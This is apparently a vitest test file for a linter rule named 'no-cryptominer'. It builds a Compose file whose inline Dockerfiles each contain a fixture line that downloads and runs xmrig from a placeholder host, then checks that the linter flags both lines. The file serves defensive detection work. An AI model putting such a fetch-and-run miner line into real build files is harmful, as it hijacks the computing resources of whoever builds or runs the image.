import { expect, it } from "vitest";
import { rules } from "../../rules/index.ts";
import { lint } from "../../src/lint.ts";
import { Source } from "../../src/text/source.ts";

it("of several Dockerfiles in one Compose file each has its own stages", async () => {
  const service = (name: string): string =>
    `  ${name}:\n    build:\n      dockerfile_inline: |\n        FROM alpine:3.22\n        RUN wget -q https://x.example/xmrig && ./xmrig\n`;
  const text = `services:\n${service("a")}${service("b")}`;
  const { findings } = await lint([{ source: new Source("compose.yaml", text) }], {
    rules: rules.filter(({ id }) => id === "no-cryptominer"),
    profile: "strict",
  });
  expect(findings.map(({ span }) => text.slice(0, span.start).split("\n").length)).toEqual([6, 11]);
});
